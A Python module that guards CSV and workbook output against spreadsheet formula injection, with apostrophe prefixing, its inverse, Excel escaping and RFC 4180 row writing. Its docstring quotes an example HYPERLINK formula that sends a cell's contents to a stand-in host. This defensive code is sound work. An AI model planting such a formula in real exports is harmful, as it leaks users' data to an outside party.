"""How a data string goes into a CSV or workbook cell, and comes back unchanged.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or carriage return) as a formula: a name such as
``=HYPERLINK("http://x.example/?leak="&A1,"x")`` would fetch a URL when the
export is opened ("CSV injection"). Every CSV this tool writes therefore puts
an apostrophe before such a value — the quote prefix Excel, LibreOffice and
Google Sheets show as text — and every CSV it reads takes exactly one such
apostrophe off again, so the pair is a bijection:

>>> guard("=1+1"), unguard(guard("=1+1"))
("'=1+1", '=1+1')
>>> guard("'=1+1"), unguard(guard("'=1+1"))   # an apostrophe the user typed survives
("''=1+1", "'=1+1")
>>> guard("-12.5"), guard("自贡")               # plain numbers and ordinary text are left alone
('-12.5', '自贡')

Workbooks need no prefix: their cells are written as string cells (never
formulas) with Excel's quote-prefix style on the ones :func:`needs_guard` names.

:func:`csv_line` writes one RFC 4180 row: a field is quoted when it holds a
comma, a quote, a carriage return or a line feed — Python's own writer leaves a
lone carriage return unquoted when lines end in ``\\n``, and the file then reads
back as two rows.
"""

from __future__ import annotations

import re

# Leading characters that make a spreadsheet treat a cell as a formula (OWASP),
# with their full-width forms, which some spreadsheets accept too.
FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_XLSX_ESCAPE = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)")
_PLAIN_NUMBER = re.compile(r"-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?\Z")
_NEEDS_QUOTES = re.compile(r'[",\r\n]')


def needs_guard(value: str) -> bool:
    """True when ``value`` would run as a formula (after any apostrophes) and is not a plain number."""
    rest = value.lstrip("'")
    return bool(rest) and rest[0] in FORMULA_START and not _PLAIN_NUMBER.match(rest)


def guard(value) -> str:
    """``value`` as text safe to open in a spreadsheet (see the module docstring)."""
    text = "" if value is None else str(value)
    return "'" + text if needs_guard(text) else text


def unguard(text: str) -> str:
    """The inverse of :func:`guard`: one apostrophe off a guarded value, anything else unchanged."""
    if text.startswith("'") and needs_guard(text[1:]):
        return text[1:]
    return text


def xlsx_escape(value: str) -> str:
    """``value`` with Excel's ``_xHHHH_`` escapes: a carriage return (which XML turns into a line
    feed) as ``_x000D_``, a literal ``_xHHHH_`` as ``_x005F_xHHHH_``; undone by
    :func:`alliances.io.xlsx.unescape`, as Excel and LibreOffice undo it.

    >>> xlsx_escape("a\rb"), xlsx_escape("_x0041_")
    ('a_x000D_b', '_x005F_x0041_')
    """
    if "_x" in value:
        value = _XLSX_ESCAPE.sub("_x005F_", value)
    return value.replace("\r", "_x000D_")


def _field(value: str) -> str:
    if _NEEDS_QUOTES.search(value):
        return '"' + value.replace('"', '""') + '"'
    return value


def csv_line(values, *, guarded: bool = True) -> str:
    """One CSV row ending in ``\\n``; each value guarded unless ``guarded`` is False (headers)."""
    return ",".join(_field(guard(v) if guarded else ("" if v is None else str(v))) for v in values) + "\n"


class CsvWriter:
    """``writerow`` like :func:`csv.writer`, with :func:`csv_line`'s quoting and guarding."""

    def __init__(self, fh):
        self.fh = fh

    def writeheader(self, values) -> None:
        self.fh.write(csv_line(values, guarded=False))

    def writerow(self, values) -> None:
        self.fh.write(csv_line(values))

    def writerows(self, rows) -> None:
        for r in rows:
            self.writerow(r)
